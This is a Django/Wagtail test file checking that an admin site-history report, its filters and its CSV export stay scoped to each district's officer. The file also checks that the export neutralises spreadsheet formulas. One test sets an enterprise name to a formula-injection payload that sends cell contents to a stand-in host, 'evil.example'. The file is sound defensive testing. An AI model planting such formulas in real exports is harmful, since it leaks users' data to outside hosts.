"""Issue 7, points 4 and 7 in Wagtail's own site history (/admin/reports/site-history/): it lists
the log of every snippet and model edit, so an officer of another district must not read there
what he cannot open (enterprises, rounds, sessions, people's records), and its CSV download must
not turn a name into a live formula."""

import pytest
from wagtail.log_actions import log

from .tables import GACC, OFFICER, OTHER_OFFICER

pytestmark = pytest.mark.django_db

HISTORY = "/admin/reports/site-history/"


@pytest.fixture
def logged(world):
    officer = world.users[OFFICER]
    for instance in (world.enterprise, world.round, world.session):
        log(instance, "wagtail.edit", user=officer)
    return world


def titles(response) -> set[str]:
    return {str(entry.label) for entry in response.context["object_list"]}


@pytest.mark.parametrize("path", [HISTORY, HISTORY + "results/"])
def test_another_districts_officer_reads_nothing_of_this_district_in_the_site_history(client, logged, path):
    client.force_login(logged.users[OTHER_OFFICER])
    response = client.get(path)
    assert response.status_code == 200
    seen = titles(response)
    for instance in (logged.enterprise, logged.round, logged.session):
        assert str(instance) not in seen
    # People's records (exam candidates' photos and attempts) are not his either.
    labels = {entry.content_type.model for entry in response.context["object_list"]}
    assert not labels & {"candidatephoto", "attempt", "ticket"}
    csv = b"".join(client.get(HISTORY, {"export": "csv"}).streaming_content).decode()
    assert str(logged.enterprise) not in csv


def test_the_districts_own_officer_and_gacc_read_its_history(client, logged):
    for role in (OFFICER, GACC):
        client.force_login(logged.users[role])
        seen = titles(client.get(HISTORY))
        assert {str(logged.enterprise), str(logged.round), str(logged.session)} <= seen, role


def test_site_history_csv_writes_a_formula_like_name_as_text(client, world):
    world.enterprise.name_zh = '=HYPERLINK("http://evil.example/?"&A3,"x")'
    world.enterprise.save(update_fields=["name_zh"])
    log(world.enterprise, "wagtail.edit", user=world.users[OFFICER])
    client.force_login(world.users[GACC])
    response = client.get(HISTORY, {"export": "csv"})
    text = b"".join(response.streaming_content).decode()
    assert "\"'=HYPERLINK(" in text
    assert '\n40,"=HYPERLINK' not in text and ',"=HYPERLINK' not in text


def filter_names(response) -> list[str]:
    """The query parameters of the site history's filters, as its form names them (a date range
    is two: `…_after`/`…_before` or the like)."""
    names = []
    for bound in response.context["filters"].form:
        suffixes = getattr(bound.field.widget, "widgets_names", None)
        names += [bound.html_name + suffix for suffix in suffixes] if suffixes else [bound.html_name]
    return names


@pytest.mark.parametrize("role", [OTHER_OFFICER, GACC])
def test_site_history_filters_take_any_input_and_stay_scoped(client, logged, role):
    from .test_fuzz import BAD_VALUES

    client.force_login(logged.users[role])
    names = filter_names(client.get(HISTORY))
    assert {"label", "action", "object_type"} <= set(names)
    assert any(name.startswith("timestamp") for name in names)
    for path in (HISTORY, HISTORY + "results/"):
        for i in range(len(BAD_VALUES)):
            values = {name: BAD_VALUES[(i + j) % len(BAD_VALUES)] for j, name in enumerate(names)}
            for export in ("", "csv", "xlsx"):
                response = client.get(path, {**values, "export": export} if export else values)
                assert response.status_code < 500, (path, values, export)
    # A filter that names this district's enterprise still shows its record only to GACC.
    response = client.get(HISTORY, {"label": str(logged.enterprise)})
    assert (str(logged.enterprise) in titles(response)) is (role == GACC)
